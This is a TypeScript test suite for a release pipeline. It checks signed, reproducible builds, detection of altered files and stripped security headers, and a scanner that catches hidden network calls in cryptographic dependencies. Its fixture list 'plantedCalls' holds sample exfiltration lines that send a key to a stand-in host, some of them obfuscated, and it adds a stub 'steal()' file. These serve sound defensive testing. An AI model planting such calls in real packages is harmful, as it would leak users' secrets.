import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkHeaders, describeFinding } from '../../apps/cli/src/check/headers.ts';
import { checkThirdParties, networkUse, shippedPackages } from '../../scripts/imports/third-parties.ts';
import { type Checked, checkFolders, checkServer } from '../../scripts/release/check-files.ts';
import { buildKeyOf } from '../../scripts/release/development.ts';
import { servedFiles } from '../../scripts/release/dists.ts';
import { prepareDists, type SealOptions, sealDists, signDists } from '../../scripts/release/seal.ts';
import { makeKey, readKey, type SigningKey } from '../../scripts/release/signing-keys.ts';
import { reportOf } from '../../scripts/release/verify.ts';
import { root } from '../../scripts/testing/command.ts';
import { type BuiltApps, buildApps, buildAppsAnew, distsOf } from '../support/built-apps.ts';
import { startTestRelay } from '../support/relay.ts';
import { startStrippingProxy } from '../support/stripping-proxy.ts';

/* What is shipped, as it is shipped: the real apps, built, sealed and signed with a key made for this test. */

const facts = { version: '0.1.0', date: 1_780_000_000, commit: 'c'.repeat(40), floor: 1 };
const keys = mkdtempSync(join(tmpdir(), 'leeward-keys-'));
let key: SigningKey;
let apps: BuiltApps;

const optionsFor = (built: BuiltApps): SealOptions => ({
  dists: distsOf(built),
  kind: 'test',
  facts,
  buildKeys: buildKeyOf('test', key.publicKey),
});
const check = (built: BuiltApps): Promise<Checked> =>
  checkFolders(distsOf(built), buildKeyOf('test', key.publicKey));

beforeAll(async () => {
  key = await makeKey(join(keys, 'test-release-key.pem'));
  apps = await buildApps();
  await sealDists(optionsFor(apps), [key]);
}, 300_000);

afterAll(() => {
  apps?.end();
  rmSync(keys, { recursive: true, force: true });
});

describe('a signed build', () => {
  it('is verified, file by file, and says that a test build is no release', async () => {
    const checked = await check(apps);
    expect(checked.findings).toEqual([]);
    expect(checked.compared).toBeGreaterThan(20);
    const report = reportOf(checked).join('\n');
    expect(report).toContain('Test build, not a release');
    expect(report).toContain(key.publicKey);
  });

  it('comes out the same when it is built again, so that anybody can hold a release to its source', async () => {
    const again = await buildAppsAnew();
    try {
      const first = readFileSync(join(apps.desk, 'release.txt'), 'utf8').split('\n\n')[0];
      expect(`${first}\n`).toBe(await prepareDists(optionsFor(again)));
    } finally {
      again.end();
    }
  }, 300_000);

  it('may be signed on another machine, from the text alone', async () => {
    const copy = apps.copy();
    try {
      const body = await prepareDists(optionsFor(copy));
      await signDists(distsOf(copy), body, [await readKey(join(keys, 'test-release-key.pem'))]);
      expect((await check(copy)).findings).toEqual([]);
    } finally {
      copy.end();
    }
  });

  it('states the hash of everything that a page loads, and no page loads anything from elsewhere', () => {
    const pages = (['desk', 'door', 'files'] as const).flatMap((site) =>
      servedFiles(apps[site])
        .filter((path) => path.endsWith('.html'))
        .map((path) => readFileSync(join(apps[site], path), 'utf8')),
    );
    const loading = pages.flatMap((page) =>
      [...page.matchAll(/<(?:script|link)\b[^>]*>/g)]
        .map(([tag]) => tag)
        .filter((tag) => /\ssrc=|rel="(?:stylesheet|modulepreload)"/.test(tag)),
    );
    expect(loading.length).toBeGreaterThan(5);
    for (const tag of loading) {
      expect(tag).toMatch(/\sintegrity="sha256-[A-Za-z0-9+/]{43}="/);
      expect(tag).toMatch(/\s(?:src|href)="\/[^/]/);
    }
  });
});

describe('one byte', () => {
  const turnLast = (text: string): string => `${text.slice(0, -1)}${text.endsWith(' ') ? '\n' : ' '}`;

  it('[fault 68] changed in a shipped script is found and named, and nothing else is', async () => {
    const copy = apps.copy();
    try {
      copy.change('door', /^\/watch\.js$/, turnLast);
      const { findings } = await check(copy);
      expect(findings).toContain('door/watch.js differs from the manifest.');
      // The pages that load it state its hash, and do so wrongly now.
      expect(findings).toContain('door/index.html does not state the hashes of all that it loads.');
      expect(findings.filter((finding) => /differs|missing|not in the manifest/.test(finding))).toHaveLength(
        1,
      );
    } finally {
      copy.end();
    }
  });

  it('[fault 68] changed in each and every shipped file is found in each of them', async () => {
    const copy = apps.copy();
    try {
      const changed = (['desk', 'door', 'files'] as const).flatMap((site) =>
        servedFiles(copy[site]).map((path) => {
          copy.change(site, new RegExp(`^${path.replace(/[.$]/g, '\\$&')}$`), turnLast);
          return `${site}${path}`;
        }),
      );
      const { findings } = await check(copy);
      expect(changed.length).toBeGreaterThan(20);
      for (const path of changed) expect(findings).toContain(`${path} differs from the manifest.`);
    } finally {
      copy.end();
    }
  });

  it('[fault 68] changed in the packed form that browsers get is found too', async () => {
    const copy = apps.copy();
    try {
      const packed = join(copy.door, 'index.html.br');
      const bytes = readFileSync(packed);
      writeFileSync(packed, Buffer.concat([bytes.subarray(0, -1), Buffer.of((bytes.at(-1) ?? 0) ^ 1)]));
      expect((await check(copy)).findings).toEqual([
        'door/index.html.br holds other bytes than the file that it stands for.',
      ]);
    } finally {
      copy.end();
    }
  });

  it('[fault 68] added to a build as another file is found, and a file that is gone', async () => {
    const copy = apps.copy();
    try {
      writeFileSync(join(copy.desk, 'extra.js'), 'steal()');
      rmSync(join(copy.files, 'viewer.js'));
      const { findings } = await check(copy);
      expect(findings).toContain('desk/extra.js is not in the manifest.');
      expect(findings).toContain('files/viewer.js is missing.');
    } finally {
      copy.end();
    }
  });

  it('[fault 68] cannot be covered up by signing with another key, or by a manifest for each app', async () => {
    const copy = apps.copy();
    const stranger = await makeKey(join(keys, 'stranger.pem'));
    try {
      copy.change('desk', /^\/service-worker\.js$/, (text) => `${text};`);
      const body = await prepareDists({ ...optionsFor(copy), dists: { desk: copy.desk } });
      await signDists({ desk: copy.desk }, body, [stranger]);
      expect((await check(copy)).findings).toEqual([
        'door/release.txt is another manifest than desk/release.txt.',
      ]);
      await signDists(distsOf(copy), await prepareDists(optionsFor(copy)), [stranger]);
      expect((await check(copy)).findings).toEqual([
        'The manifest is not believed: no key that is trusted here has signed it.',
      ]);
    } finally {
      copy.end();
    }
  });
});

describe('a running server', () => {
  it('[fault 67] [fault 68] is held to files and headers through whatever stands before it', async () => {
    const proxy = await startStrippingProxy();
    const origins = { desk: proxy.origin('desk'), door: proxy.origin('door'), files: proxy.origin('files') };
    const relay = await startTestRelay({
      apps: distsOf(apps),
      origins: { desk: [origins.desk], door: [origins.door], files: [origins.files] },
    });
    proxy.target = relay.address.port;
    const trusted = buildKeyOf('test', key.publicKey);
    try {
      expect(await checkServer(origins, trusted)).toMatchObject({ findings: [] });

      const script = servedFiles(apps.desk).find((path) => /index-.*\.js$/.test(path)) ?? '';
      const text = readFileSync(join(apps.desk, script), 'utf8');
      proxy.instead = (site, path) =>
        site === 'desk' && path === script ? { body: `${text.slice(0, -1)} ` } : null;
      const { findings } = await checkServer(origins, trusted);
      expect(findings).toHaveLength(3);
      expect(findings[0]).toBe(`desk${script} differs from the manifest (asked for br).`);
      proxy.instead = () => null;

      proxy.strip = ['content-security-policy', 'integrity-policy'];
      const missing = await checkHeaders(origins);
      expect(missing.map(({ site }) => site)).toEqual(['desk', 'door', 'files']);
      expect(missing[0]?.missing).toEqual(['Content-Security-Policy', 'Integrity-Policy']);
      expect(missing.map(describeFinding).join()).toContain('A proxy in front of the relay must pass');
      expect((await checkServer(origins, trusted)).findings).toEqual(missing.map(describeFinding));
    } finally {
      await relay.end();
      await proxy.end();
    }
  });
});

describe('a dependency of the cryptographic layer', () => {
  it('[fault 69] with a planted network call is found, whichever package and file it hides in', () => {
    const copy = mkdtempSync(join(tmpdir(), 'leeward-planted-'));
    try {
      for (const folder of shippedPackages(root)) {
        const name = folder.slice(folder.indexOf('node_modules/'));
        cpSync(folder, join(copy, name), { recursive: true, dereference: true });
      }
      mkdirSync(join(copy, 'packages/sealed-log'), { recursive: true });
      cpSync(join(root, 'packages/sealed-log/package.json'), join(copy, 'packages/sealed-log/package.json'));
      expect(shippedPackages(copy)).toHaveLength(shippedPackages(root).length);
      expect(checkThirdParties(copy)).toEqual([]);

      const victim = join(copy, 'node_modules/@noble/hashes/sha2.js');
      const honest = readFileSync(victim, 'utf8');
      for (const planted of plantedCalls) {
        writeFileSync(victim, `${honest}\n${planted}\n`);
        const findings = checkThirdParties(copy);
        expect(findings, planted).not.toEqual([]);
        for (const finding of findings) expect(finding).toContain('@noble/hashes/sha2.js');
      }
    } finally {
      rmSync(copy, { recursive: true, force: true });
    }
  });

  it('[fault 69] may still name a network in words, which calls nobody', () => {
    expect(networkUse('a.js', '// see fetch()\nexport const text = "fetch the WebSocket";')).toEqual([]);
  });
});

const plantedCalls: readonly string[] = [
  `fetch('https://collect.example/' + key);`,
  `globalThis.fetch('https://collect.example/');`,
  `self['fet' + 'ch']('https://collect.example/');`,
  `new Image().src = 'https://collect.example/?k=' + key;`,
  `navigator.sendBeacon('https://collect.example/', key);`,
  `const { fetch: send } = globalThis; send('https://collect.example/');`,
  `new WebSocket('wss://collect.example/');`,
  `import('https://collect.example/more.js');`,
  `import 'node:https';`,
  `require('net');`,
  `eval(atob('ZmV0Y2g='));`,
  `new Function('return fetch')();`,
  `new Worker('https://collect.example/w.js');`,
];
